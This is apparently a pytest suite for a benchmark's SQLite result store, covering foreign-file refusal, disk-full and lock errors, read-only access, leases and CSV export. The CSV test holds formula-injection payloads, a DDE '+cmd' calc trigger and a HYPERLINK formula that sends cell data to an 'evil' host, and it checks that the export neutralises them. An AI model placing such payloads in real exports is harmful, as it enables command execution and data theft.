"""The store against hostile files and failing disks (issue 11): foreign and newer files refused
untouched, text SQLite cannot hold, a full disk, a lock held too long, a store that can only be
read, CSV cells that would run as formulas, and leases that keep two processes apart."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import sqlite3
import stat
import tempfile
import time
from pathlib import Path

import pytest

from vscbench.schema import Response, RunSpec, Sample
from vscbench.store import (
    SCHEMA_VERSION,
    ForeignFileError,
    NewerStoreError,
    ReadOnlyStoreError,
    Store,
    StoreError,
)
from vscbench.store.file import APPLICATION_ID


def _sample(index: int, category: str = "drugs") -> Sample:
    return Sample(id=f"s{index}", subset="image_centric", category=category, variant="slot_0", label="safe",
                  prompt=f"prompt {index}")  # fmt: skip


def _response(key: str, text: str | None = "answer", outcome: str = "ok", error: str | None = None) -> Response:
    return Response(key=key, sample_id="s0", model="scripted:keyword", outcome=outcome, text=text, error=error)


def _fingerprint(folder: Path) -> dict[str, tuple[str, int]]:
    """Every file in the folder with its sha256 and mtime: proof that nothing was touched."""
    return {
        path.name: (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns)
        for path in sorted(folder.iterdir())
    }


def _small_store(path: Path, n: int = 3) -> Path:
    with Store(path) as store:
        samples = [_sample(i) for i in range(n)]
        store.start_run(RunSpec(name="r", model="scripted:keyword"), [(s, f"k{i}") for i, s in enumerate(samples)])
        store.put_responses([_response(f"k{i}", text=f"answer {i}") for i in range(n)])
        store.finish_run("r", "complete")
    return path


# ---- whose file is it --------------------------------------------------------------------------


def test_a_file_that_is_not_sqlite_is_refused_untouched(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    path.write_text("name,score\nme,1\n")
    before = _fingerprint(tmp_path)
    with pytest.raises(ForeignFileError, match=r"results\.csv is not a vscbench store.*not a SQLite database"):
        Store(path)
    assert _fingerprint(tmp_path) == before  # same bytes, same mtime, no -wal or -shm beside it


def test_another_programs_database_is_refused_untouched(tmp_path: Path) -> None:
    path = tmp_path / "places.sqlite"
    other = sqlite3.connect(path)
    other.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    other.execute("INSERT INTO moz_places (url) VALUES ('https://example.org')")
    other.commit()
    other.close()
    before = _fingerprint(tmp_path)
    with pytest.raises(ForeignFileError, match="another program's SQLite database.*moz_places"):
        Store(path)
    assert _fingerprint(tmp_path) == before
    sqlite3.connect(path).execute("PRAGMA application_id = 1234").connection.close()
    with pytest.raises(ForeignFileError, match="application id 0x4d2"):
        Store(path)


def test_a_folder_is_refused_with_the_fix(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="is a folder, not a store"):
        Store(tmp_path)


def test_a_newer_schema_is_refused_with_the_version_it_needs(tmp_path: Path) -> None:
    path = _small_store(tmp_path / "runs.sqlite")
    db = sqlite3.connect(path)
    db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 5}")
    db.commit()
    db.close()
    before = _fingerprint(tmp_path)
    with pytest.raises(NewerStoreError, match=rf"schema {SCHEMA_VERSION + 5}\).*up to {SCHEMA_VERSION}.*Upgrade"):
        Store(path)
    assert _fingerprint(tmp_path) == before


def test_the_schema_version_is_recorded_and_old_stores_upgrade(tmp_path: Path) -> None:
    path = _small_store(tmp_path / "runs.sqlite")
    db = sqlite3.connect(path)
    assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    assert db.execute("PRAGMA application_id").fetchone()[0] == APPLICATION_ID
    db.execute("PRAGMA user_version = 0")  # a store from before versions were recorded
    db.execute("PRAGMA application_id = 0")
    db.execute("DROP TABLE claims")
    db.commit()
    db.close()
    with Store(path) as store:
        assert [info.name for info in store.list_runs()] == ["r"]
    db = sqlite3.connect(path)
    assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    db.close()


# ---- text SQLite cannot hold -------------------------------------------------------------------


def test_lone_surrogates_and_nul_are_stored_replaced_and_noted(tmp_path: Path) -> None:
    with Store(tmp_path / "s.sqlite") as store:
        store.put_responses([
            _response("k1", text="half an emoji \ud83d and a NUL \x00 here"),
            _response("k2", text=None, outcome="error", error="HTTP 500: bad \udcff byte"),
        ])  # fmt: skip
        first, second = store.get_response("k1"), store.get_response("k2")
    assert first.text == "half an emoji \ufffd and a NUL \ufffd here"
    assert first.error == "text repaired: 1 lone surrogate and 1 NUL character replaced by U+FFFD"
    assert second.error == "HTTP 500: bad \ufffd byte"


# ---- failing disks and locks -------------------------------------------------------------------


def test_a_full_disk_is_one_error_naming_the_store_and_keeps_what_was_written(tmp_path: Path) -> None:
    path = tmp_path / "runs.sqlite"
    store = Store(path)
    store.put_responses([_response(f"k{i}", text="x" * 100) for i in range(5)])
    pages = store.database.connection.execute("PRAGMA page_count").fetchone()[0]
    store.database.connection.execute(f"PRAGMA max_page_count = {pages}")  # the disk is now full for this store
    with pytest.raises(StoreError) as caught:
        store.put_responses([_response(f"big{i}", text="y" * 20_000) for i in range(20)])
    message = str(caught.value)
    assert str(path) in message and "disk is full" in message and "\n" not in message
    store.close()
    with Store(path) as reopened:
        assert reopened.answered_keys([f"k{i}" for i in range(5)]) == {f"k{i}" for i in range(5)}


def test_a_lock_held_past_the_timeout_is_one_error(tmp_path: Path) -> None:
    path = tmp_path / "runs.sqlite"
    store = Store(path, timeout=0.2)
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another process in the middle of a write
    try:
        started = time.monotonic()
        with pytest.raises(StoreError, match=rf"{path.name} stayed locked by another process"):
            store.put_response(_response("k1"))
        assert time.monotonic() - started < 5
    finally:
        other.execute("ROLLBACK")
        other.close()
    store.put_response(_response("k1"))  # the lock gone, writes go on
    store.close()


def test_writes_to_a_read_only_store_are_one_error(tmp_path: Path) -> None:
    path = _small_store(tmp_path / "runs.sqlite")
    with Store(path, read_only=True) as store:
        assert store.read_only and [i.name for i in store.list_runs()] == ["r"]
        with pytest.raises(ReadOnlyStoreError, match="read-only.*listed, scored, reported and exported"):
            store.put_response(_response("k9"))


def _unprivileged(fn) -> dict:
    """Run ``fn`` in a child process that cannot write the store: as ``nobody`` when the tests run
    as root (root ignores file permissions), else as this user on read-only permissions."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child
        os.close(read)
        try:
            if os.geteuid() == 0:
                os.setgid(65534)
                os.setuid(65534)
            result = fn()
        except BaseException as exc:  # report anything to the parent
            result = {"raised": f"{type(exc).__name__}: {exc}"}
        os.write(write, json.dumps(result).encode())
        os._exit(0)
    os.close(write)
    chunks = []
    while chunk := os.read(read, 65536):
        chunks.append(chunk)
    os.close(read)
    os.waitpid(pid, 0)
    return json.loads(b"".join(chunks))


def test_a_store_that_cannot_be_written_can_still_be_read_and_exported() -> None:
    base = Path(tempfile.mkdtemp(prefix="vscbench-ro-"))
    try:
        base.chmod(0o755)
        folder, out = base / "ro", base / "out"
        folder.mkdir()
        out.mkdir()
        out.chmod(0o777)
        path = _small_store(folder / "runs.sqlite")
        assert not list(folder.glob("*-wal"))  # closed cleanly: everything is in the main file
        path.chmod(0o444)
        folder.chmod(0o555)
        before = _fingerprint(folder)

        def read_everything() -> dict:
            store = Store(path)  # no flag: it finds out by itself
            listed = [(info.name, info.counts) for info in store.list_runs()]
            texts = [response.text for _, response in store.run_items("r")]
            rows = store.export("r", out / "r.csv", format="csv")
            try:
                store.put_response(_response("new"))
                wrote = "no error"
            except ReadOnlyStoreError as exc:
                wrote = str(exc)
            return {"read_only": store.read_only, "listed": listed, "texts": texts, "rows": rows, "wrote": wrote}

        result = _unprivileged(read_everything)
        assert "raised" not in result, result
        assert result["read_only"] is True
        assert result["listed"] == [["r", {"ok": 3}]] and result["texts"] == ["answer 0", "answer 1", "answer 2"]
        assert result["rows"] == 3 and (out / "r.csv").is_file()
        assert "read-only" in result["wrote"] and str(path) in result["wrote"]
        assert _fingerprint(folder) == before
    finally:
        for folder in (base, *base.iterdir()):
            folder.chmod(stat.S_IRWXU)
        shutil.rmtree(base)


# ---- exports -------------------------------------------------------------------------------------


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    with Store(tmp_path / "s.sqlite") as store:
        store.start_run(RunSpec(name="r", model="m"), [(_sample(0, category="+cmd|' /C calc'!A0"), "k0")])
        store.put_response(_response("k0", text='=HYPERLINK("http://evil/?"&A1, "click")'))
        store.export("r", tmp_path / "r.csv", format="csv")
    (row,) = csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8"))
    assert row["text"] == "'" + '=HYPERLINK("http://evil/?"&A1, "click")'
    assert row["category"] == "'+cmd|' /C calc'!A0"
    assert row["outcome"] == "ok"


# ---- leases ----------------------------------------------------------------------------------


def test_claims_keep_two_owners_apart_until_a_lease_expires(tmp_path: Path) -> None:
    path = tmp_path / "runs.sqlite"
    first, second = Store(path), Store(path)  # two connections, as two processes have
    a, b = Store.new_owner(), Store.new_owner()
    assert first.claim(["k1", "k2"], a, lease_s=0.5) == ["k1", "k2"]
    assert second.claim(["k1", "k2", "k3"], b, lease_s=0.5) == ["k3"]
    assert second.claimed_by_others(["k1", "k2", "k3"], b) == {"k1", "k2"}
    first.put_response(_response("k1"))  # answered: nobody claims it again
    first.release_claims(a, ["k1"])
    first.renew_claims(a, lease_s=0.5)
    assert second.claim(["k1", "k2"], b, lease_s=0.5) == []
    time.sleep(0.6)  # a dies: its lease runs out without renewal
    assert second.claim(["k1", "k2"], b, lease_s=5) == ["k2"]
    assert first.claim(["k2"], a) == []
    first.close()
    second.close()
